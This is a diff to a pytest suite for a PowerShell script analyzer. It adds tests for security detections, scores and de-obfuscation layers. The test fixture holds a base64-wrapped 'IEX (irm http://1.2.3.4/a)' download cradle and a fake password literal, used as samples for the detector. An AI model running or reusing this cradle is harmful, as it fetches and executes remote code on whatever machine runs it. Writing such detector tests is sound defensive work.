@@ -12,6 +12,7 @@ from typing import Any
 import pytest
 
 from pipeline.analysis.catalog import rule_names
+from pipeline.analysis.detecting.catalog import detection_names
 from pipeline.analysis.rules import PSAvoidUsingWriteHost
 from workers import cli
 
@@ -183,13 +184,127 @@ def test_text_is_for_people(folder: Path, capsys: pytest.CaptureFixture[str]) ->
 
 def test_every_rule_has_a_page_to_show(capsys: pytest.CaptureFixture[str]) -> None:
     assert cli.main(["rule"]) == CLEAN
-    assert [line.split()[0] for line in capsys.readouterr().out.splitlines()] == list(rule_names())
+    assert [line.split()[0] for line in capsys.readouterr().out.splitlines()] == [*rule_names(), *detection_names()]
     assert cli.main(["rule", "avoidusingwritehost"]) == CLEAN
     assert capsys.readouterr().out.startswith("# PSAvoidUsingWriteHost\n")
     assert cli.main(["rule", "PSAvoidUsingWritehosts"]) == USAGE
     assert "Did you mean PSAvoidUsingWriteHost?" in capsys.readouterr().err
     assert cli.main(["rule", "--json"]) == CLEAN
-    assert {each["name"] for each in json.loads(capsys.readouterr().out)} == set(rule_names())
+    assert {each["name"] for each in json.loads(capsys.readouterr().out)} == {*rule_names(), *detection_names()}
+
+
+def test_every_detection_has_a_page_to_show(capsys: pytest.CaptureFixture[str]) -> None:
+    for name in ("PS012", "ps012_downloadcradle"):
+        assert cli.main(["rule", name]) == CLEAN
+        assert capsys.readouterr().out.startswith("# PS012_DownloadCradle\n")
+    assert cli.main(["rule", "PS012", "--json"]) == CLEAN
+    (answer,) = json.loads(capsys.readouterr().out)
+    assert (answer["name"], answer["attack"], answer["cwe"]) == ("PS012_DownloadCradle", ["T1105", "T1059.001"], ["CWE-494"])
+
+
+SECRET = "hunter2-Secret9"
+WRAPPED = "SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcAA6AC8ALwAxAC4AMgAuADMALgA0AC8AYQApAA=="
+DANGEROUS = f"$password = '{SECRET}'\nIEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{WRAPPED}')))\n"
+SCORES = ["malice", "hygiene", "security", "quality", "risk"]
+
+
+def detections(answer: dict[str, Any]) -> set[str]:
+    return {name.partition("_")[0] for name in rules(answer) & set(detection_names())}
+
+
+@pytest.fixture(name="dangerous")
+def _dangerous(folder: Path) -> str:
+    (folder / "dangerous.ps1").write_text(DANGEROUS)
+    return "dangerous.ps1"
+
+
+def test_what_security_layers_and_explain_add(dangerous: str, capsys: pytest.CaptureFixture[str]) -> None:
+    code, (answer,), _ = run(capsys, dangerous, "--security", "--layers", "--explain")
+    assert code == FOUND
+    assert {"PS001", "PS011", "PS012"} <= detections(answer)
+    assert list(answer["scores"]) == SCORES
+    assert answer["scores"]["malice"] >= 50
+    assert all(value is not None for value in answer["scores"].values())
+    assert [layer["how"] for layer in answer["layers"]] == ["Invoke-Expression: base64"]
+    assert all(answer["reasons"][name] for name in SCORES)
+    assert all(set(reason) == {"points", "text", "rule"} for reasons in answer["reasons"].values() for reason in reasons)
+    assert SECRET not in json.dumps(answer)
+
+
+def test_scores_that_are_unknown_say_why(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    _, (answer,), _ = run(capsys, "sub/broken.psm1", "--explain")
+    assert answer["scores"]["quality"] is None
+    assert "cannot read this script" in answer["reasons"]["quality"][0]["text"]
+    (folder / "about_It.help.txt").write_text("Invoke-Expression $it\n")
+    code, (answer,), _ = run(capsys, "about_It.help.txt", "--security", "--layers", "--explain")
+    assert (code, answer["scores"], answer["layers"]) == (CLEAN, dict.fromkeys(SCORES), [])
+
+
+@pytest.mark.parametrize("options", [["--layers"], ["--explain"], []])
+def test_without_security_findings_are_those_of_rules(dangerous: str, options: list[str], capsys: pytest.CaptureFixture[str]) -> None:
+    _, (answer,), _ = run(capsys, dangerous, *options)
+    assert not detections(answer)
+
+
+@pytest.mark.parametrize("name", ["text", "json", "jsonl", "sarif", "junit", "github", "markdown"])
+def test_every_format_tells_scores_layers_and_no_secret(dangerous: str, name: str, capsys: pytest.CaptureFixture[str]) -> None:
+    assert cli.main(["analyze", dangerous, "--security", "--layers", "--explain", "--format", name]) == FOUND
+    said = capsys.readouterr().out
+    assert SECRET not in said
+    assert all(score in said for score in SCORES)
+    assert "Invoke-Expression: base64" in said.replace("%3A", ":")
+    assert "layer" in said
+
+
+def test_text_tells_in_which_layer(dangerous: str, capsys: pytest.CaptureFixture[str]) -> None:
+    cli.main(["analyze", dangerous, "--security", "--layers", "--explain"])
+    said = capsys.readouterr().out
+    assert "in layer 1, 1:1: IEX (irm http://1.2.3.4/a)" in said
+    assert "(T1105, T1059.001, CWE-494)" in said
+    assert "(treat it as an attack)" in said
+    assert "    hygiene   -40  " in said
+
+
+@pytest.mark.parametrize(
+    ("options", "wanted"),
+    [
+        (["--include-rule", "PS012"], {"PS012"}),
+        (["--include-rule", "PS001_SecretLiteral,PS012"], {"PS001", "PS012"}),
+        (["--include-rule", "PSAvoidUsingWriteHost"], {"PS001", "PS011", "PS012", "PS055", "PS065"}),
+        (["--exclude-rule", "PS0[156]*"], {"PS001"}),
+        (["--severity", "Critical"], {"PS012"}),
+        (["--severity", "Error"], {"PS001", "PS011", "PS012", "PS055", "PS065"}),
+    ],
+)
+def test_choosing_detections(dangerous: str, options: list[str], wanted: set[str], capsys: pytest.CaptureFixture[str]) -> None:
+    _, (answer,), _ = run(capsys, dangerous, "--security", *options)
+    assert detections(answer) >= wanted - {"PS011"}
+    assert detections(answer) <= wanted
+
+
+def test_what_suppresses_a_detection_hides_it_and_changes_no_score(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    attribute = "[Diagnostics.CodeAnalysis.SuppressMessageAttribute('{}', '')]\nparam()\n"
+    answers = []
+    for name in ("PS012", "ps012_DownloadCradle", "PS999"):
+        (folder / "quiet.ps1").write_text(attribute.format(name) + DANGEROUS)
+        answers.append(run(capsys, "quiet.ps1", "--security", "--layers", "--include-rule", "PS012")[1][0])
+    assert [bool(answer["findings"]) for answer in answers] == [False, False, True]
+    assert answers[0]["scores"] == answers[2]["scores"]
+    _, (answer,), _ = run(capsys, "quiet.ps1", "--security", "--include-suppressed", "--include-rule", "PS012")
+    assert [finding["suppressed"] for finding in answer["findings"]] == [False]
+
+
+def test_settings_may_name_detections(dangerous: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    (folder / "PSScriptAnalyzerSettings.psd1").write_text("@{ ExcludeRules = 'PS001', 'PS011_InvokeExpression' }")
+    _, (answer,), _ = run(capsys, dangerous, "--security")
+    assert "PS012" in detections(answer)
+    assert not {"PS001", "PS011"} & detections(answer)
+
+
+@pytest.mark.parametrize(("least", "code"), [("Critical", FOUND), ("Error", FOUND)])
+def test_detections_count_for_the_exit_code(dangerous: str, least: str, code: int, capsys: pytest.CaptureFixture[str]) -> None:
+    assert run(capsys, dangerous, "--security", "--fail-on", least)[0] == code
+    assert run(capsys, dangerous, "--security", "--fail-on", least, "--exclude-rule", "PS*")[0] == CLEAN
 
 
 def test_judging_imports_nothing_but_the_standard_library() -> None:
